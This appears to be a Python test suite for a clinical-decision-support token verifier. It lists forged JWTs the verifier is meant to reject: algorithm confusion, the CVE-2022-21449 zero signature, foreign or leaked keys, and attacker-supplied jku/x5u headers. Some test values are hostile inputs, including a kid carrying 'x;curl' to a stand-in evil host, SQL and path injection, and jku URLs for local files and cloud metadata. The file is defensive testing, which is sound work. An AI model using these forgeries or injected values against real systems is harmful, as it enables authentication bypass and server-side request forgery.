"""Attacks on signature and key: algorithms, curves, public secrets, keys and addresses that a token brings (J3-J9).

What may not live here: what a token says of itself (`token_claims`).
"""

from __future__ import annotations

from typing import Final

from cds_hooks.trust import Reason
from cds_hooks.trust.keys import MAX_AGE
from tests.attacks.attack import Attack
from tests.attacks.forging import (
    AT_CLINIC,
    CANARY,
    CLINIC,
    EHR,
    EHR_RSA,
    EVIL,
    FOR_ENCRYPTION,
    GROUP_ORDER,
    LEAKED,
    SHARED_SECRET,
    STRANGER,
    STRANGER_RSA,
    WEAK,
    Forge,
    der,
    der_signature,
    part_of,
    pem,
    raw_signature,
    signature_of,
)
from tests.support.signing import as_json, key_set, segment, signer


def _put(token: str, number: int, content: bytes) -> str:
    """The token with one part replaced, its signature as it was."""
    parts = token.split(".")
    parts[number] = segment(content)
    return ".".join(parts)


def _rotate(forge: Forge) -> None:
    """The EHR has taken its key back, and so much time has passed as a set may be old."""
    forge.clinic.document = key_set(signer("clinic-2", owner="clinic, next year"))
    forge.clock.forward(MAX_AGE.total_seconds())


ALGORITHM: Final = (
    Attack("J5", "none", "alg none, no signature", Reason.ALGORITHM, lambda f: f.unsigned(alg="none")),
    Attack("J5", "none-case", "alg nOnE", Reason.ALGORITHM, lambda f: f.unsigned(alg="nOnE")),
    Attack("J5", "none-signed", "alg none, the signature left there", Reason.ALGORITHM, lambda f: f.headed(alg="none")),
    Attack("J5", "stripped", "alg ES384, no signature", Reason.SIGNATURE, Forge.unsigned),
    Attack(
        "J5",
        "hs256-pem",
        "HS256, the public key (PEM) as the secret",
        Reason.ALGORITHM,
        lambda f: f.signed_with_secret(pem(EHR_RSA), "sha256", alg="HS256", kid="ehr-2"),
    ),
    Attack(
        "J5",
        "hs384-der",
        "HS384, the public key (DER) as the secret",
        Reason.ALGORITHM,
        lambda f: f.signed_with_secret(der(EHR), "sha384", alg="HS384"),
    ),
    Attack(
        "J5",
        "hs256-jwk",
        "HS256, the published key itself as the secret",
        Reason.ALGORITHM,
        lambda f: f.signed_with_secret(as_json(EHR.public), "sha256", alg="HS256"),
    ),
    Attack(
        "J5",
        "hs256-oct",
        "HS256 with a symmetric key that lies in the set",
        Reason.ALGORITHM,
        lambda f: f.signed_with_secret(part_of(SHARED_SECRET, 0), "sha256", alg="HS256", kid="oct-1"),
    ),
    Attack(
        "J5",
        "hs-as-es384",
        "HMAC, but alg ES384",
        Reason.SIGNATURE,
        lambda f: f.signed_with_secret(pem(EHR), "sha384"),
    ),
    Attack(
        "J5",
        "es256",
        "ES256, which the client does not list",
        Reason.ALGORITHM,
        lambda f: f.headed(signer(algorithm="ES256")),
    ),
    Attack(
        "J5",
        "wrong-curve",
        "alg ES384, signed on P-256",
        Reason.SIGNATURE,
        lambda f: signer(algorithm="ES256").signed(as_json(EHR.header()), as_json(f.claims())),
    ),
    Attack("J5", "es256k", "the curve of Bitcoin", Reason.ALGORITHM, lambda f: f.headed(alg="ES256K")),
    Attack("J5", "eddsa", "EdDSA", Reason.ALGORITHM, lambda f: f.headed(alg="EdDSA")),
    Attack(
        "J5",
        "rs256",
        "a weaker digest under the same RSA key",
        Reason.ALGORITHM,
        lambda f: f.headed(EHR_RSA, alg="RS256"),
    ),
    Attack("J5", "alg-case", "alg rs384 in small letters", Reason.ALGORITHM, lambda f: f.headed(EHR_RSA, alg="rs384")),
    Attack("J5", "rs-with-ec-key", "RS384, naming the EC key", Reason.KEY, lambda f: f.headed(EHR_RSA, kid="ehr-1")),
    Attack("J5", "es-with-rsa-key", "ES384, naming the RSA key", Reason.KEY, lambda f: f.headed(kid="ehr-2")),
    Attack(
        "J5",
        "ps-for-rs",
        "PS384 under a key that is for RS384",
        Reason.KEY,
        lambda f: EHR_RSA.signed(as_json(EHR_RSA.header(alg="PS384")), as_json(f.claims()), "PS384"),
    ),
    Attack("J5", "weak-rsa", "an RSA key of 1024 bits that lies in the set", Reason.KEY, lambda f: f.good(WEAK)),
    Attack("J5", "encryption-key", "a key that is there for encryption", Reason.KEY, lambda f: f.good(FOR_ENCRYPTION)),
    Attack("J5", "leaked-key", "a key whose private half was published with it", Reason.KEY, lambda f: f.good(LEAKED)),
    Attack(
        "J5", "stranger", "signed by a stranger, with the kid of the EHR", Reason.SIGNATURE, lambda f: f.good(STRANGER)
    ),
    Attack("J5", "stranger-rsa", "the same with RSA", Reason.SIGNATURE, lambda f: f.good(STRANGER_RSA)),
    Attack(
        "J5",
        "zeros",
        "r = s = 0, the signature of CVE-2022-21449",
        Reason.SIGNATURE,
        lambda f: f.with_signature(bytes(96)),
    ),
    Attack(
        "J5",
        "group-order",
        "r = s = the order of the group",
        Reason.SIGNATURE,
        lambda f: f.with_signature(raw_signature(GROUP_ORDER, GROUP_ORDER)),
    ),
    Attack(
        "J5",
        "der",
        "a right signature, DER-encoded",
        Reason.SIGNATURE,
        lambda f: f.with_signature(der_signature(f.good())),
    ),
    Attack(
        "J5",
        "rsa-one",
        "the RSA signature 1",
        Reason.SIGNATURE,
        lambda f: f.with_signature(bytes(255) + b"\x01", EHR_RSA),
    ),
    Attack(
        "J5",
        "borrowed",
        "the signature of another token",
        Reason.SIGNATURE,
        lambda f: f.with_signature(signature_of(f.good())),
    ),
    Attack(
        "J5",
        "changed-claims",
        "claims changed after signing: another tenant",
        Reason.SIGNATURE,
        lambda f: _put(f.good(), 1, as_json(f.claims(tenant="south"))),
    ),
    Attack(
        "J5",
        "changed-header",
        "header changed after signing",
        Reason.SIGNATURE,
        lambda f: _put(f.good(), 0, as_json(EHR.header(cty="x"))),
    ),
)

KEYS: Final = (
    Attack("J3", "no-kid", "no kid", Reason.HEADER, lambda f: f.headed(kid=None)),
    Attack("J3", "kid-number", "kid is a number", Reason.HEADER, lambda f: f.headed(kid=1)),
    Attack("J3", "kid-list", "kid is a list", Reason.HEADER, lambda f: f.headed(kid=["ehr-1"])),
    Attack("J3", "kid-long", "kid of 5,000 letters", Reason.HEADER, lambda f: f.headed(kid="k" * 5000)),
    Attack("J9", "kid-unknown", "a kid that nobody has", Reason.KEY, lambda f: f.headed(STRANGER, kid=CANARY)),
    Attack(
        "J9",
        "kid-unknown-published",
        "the same where keys are published",
        Reason.KEY,
        lambda f: f.at_clinic(kid=CANARY),
    ),
    Attack("J9", "kid-sql", "SQL in the kid", Reason.KEY, lambda f: f.headed(STRANGER, kid="ehr-1' OR '1'='1")),
    Attack("J9", "kid-path", "a path in the kid", Reason.KEY, lambda f: f.headed(STRANGER, kid="../../../../dev/null")),
    Attack("J9", "kid-command", "a command in the kid", Reason.KEY, lambda f: f.headed(STRANGER, kid=f"x;curl {EVIL}")),
    Attack("J9", "kid-address", "an address in the kid", Reason.KEY, lambda f: f.headed(STRANGER, kid=f"{EVIL}/key")),
    Attack(
        "J9",
        "kid-log",
        "a line break in the kid, for the log",
        Reason.HEADER,
        lambda f: f.headed(STRANGER, kid="x\nINFO ok"),
    ),
    Attack(
        "J7", "jwk", "brings its own key (jwk)", Reason.SIGNATURE, lambda f: f.headed(STRANGER, jwk=STRANGER.public)
    ),
    Attack(
        "J7",
        "jwk-kid",
        "the same, own kid",
        Reason.KEY,
        lambda f: f.headed(STRANGER, jwk=STRANGER.public, kid="x"),
    ),
    Attack(
        "J7", "x5c", "brings its own certificate (x5c)", Reason.SIGNATURE, lambda f: f.headed(STRANGER, x5c=["MIIB"])
    ),
    Attack(
        "J7",
        "x5u",
        "names its own certificate (x5u)",
        Reason.SIGNATURE,
        lambda f: f.headed(STRANGER, x5u=f"{EVIL}/x.pem"),
    ),
    Attack(
        "J7",
        "jku",
        "names its own key set (jku)",
        Reason.ADDRESS,
        lambda f: f.headed(STRANGER, jku=f"{EVIL}/k"),
    ),
    Attack(
        "J7",
        "jku-published",
        "the same, the EHR publishes",
        Reason.ADDRESS,
        lambda f: f.at_clinic(STRANGER, jku=f"{EVIL}/k"),
    ),
    Attack(
        "J7",
        "jku-good-signature",
        "a foreign jku on a token that is right otherwise",
        Reason.ADDRESS,
        lambda f: f.at_clinic(jku=f"{EVIL}/k"),
    ),
    Attack(
        "J7",
        "jku-user",
        "the listed host as a user name of another",
        Reason.ADDRESS,
        lambda f: f.at_clinic(jku=f.clinic.address.replace("/jwks", "@evil.example/jwks")),
    ),
    Attack(
        "J7",
        "jku-look-alike",
        "the listed host as the beginning of another",
        Reason.ADDRESS,
        lambda f: f.headed(jku="https://ehr.hospital.example.evil.example/jwks.json"),
    ),
    Attack(
        "J7",
        "jku-http",
        "the listed set without TLS",
        Reason.ADDRESS,
        lambda f: f.at_clinic(jku=f.clinic.address.replace("https", "http")),
    ),
    Attack(
        "J7",
        "jku-port",
        "the listed host on another port",
        Reason.ADDRESS,
        lambda f: f.at_clinic(jku="https://127.0.0.1:1/jwks.json"),
    ),
    Attack(
        "J7",
        "jku-steps",
        "steps upwards to the listed path",
        Reason.ADDRESS,
        lambda f: f.at_clinic(jku=f.clinic.address.replace("/jwks", "/x/../jwks")),
    ),
    Attack(
        "J7",
        "jku-query",
        "the listed set with a redirect in its query",
        Reason.ADDRESS,
        lambda f: f.at_clinic(jku=f"{f.clinic.address}?next={EVIL}"),
    ),
    Attack("J7", "jku-file", "a file of ours", Reason.ADDRESS, lambda f: f.headed(jku="file:///etc/hostname")),
    Attack(
        "J7",
        "jku-metadata",
        "the address of a cloud's secrets",
        Reason.ADDRESS,
        lambda f: f.headed(jku="http://169.254.169.254/latest/meta-data"),
    ),
    Attack(
        "J7", "jku-list", "jku is a list", Reason.HEADER, lambda f: f.at_clinic(jku=[f.clinic.address, f"{EVIL}/k"])
    ),
    Attack(
        "J7",
        "iss-own",
        "an issuer of its own that publishes keys",
        Reason.ISSUER,
        lambda f: STRANGER.token(f.claims(EVIL)),
    ),
    Attack(
        "J7",
        "other-ehr",
        "the second EHR signs for the first",
        Reason.SIGNATURE,
        lambda f: AT_CLINIC.token(f.claims(), kid="ehr-1"),
    ),
    Attack("J7", "other-ehr-kid", "the same under its own kid", Reason.KEY, lambda f: AT_CLINIC.token(f.claims())),
    Attack(
        "J9",
        "rotated-out",
        "a key that was taken out of the published set",
        Reason.KEY,
        lambda f: AT_CLINIC.token(f.claims(CLINIC, exp=f.after(1800))),
        used=True,
        between=_rotate,
    ),
    Attack(
        "J3", "crit", "an extension that must be understood", Reason.HEADER, lambda f: f.headed(crit=["exp"], exp=1)
    ),
    Attack(
        "J3", "b64", "claims that are not encoded (b64)", Reason.HEADER, lambda f: f.headed(crit=["b64"], b64=False)
    ),
    Attack("J15", "typ-access", "typ at+jwt: an access token", Reason.HEADER, lambda f: f.headed(typ="at+jwt")),
    Attack("J3", "no-typ", "no typ", Reason.HEADER, lambda f: f.headed(typ=None)),
    Attack("J3", "no-alg", "no alg", Reason.HEADER, lambda f: f.headed(alg=None)),
    Attack("J3", "alg-list", "alg is a list", Reason.HEADER, lambda f: f.headed(alg=["ES384", "none"])),
)
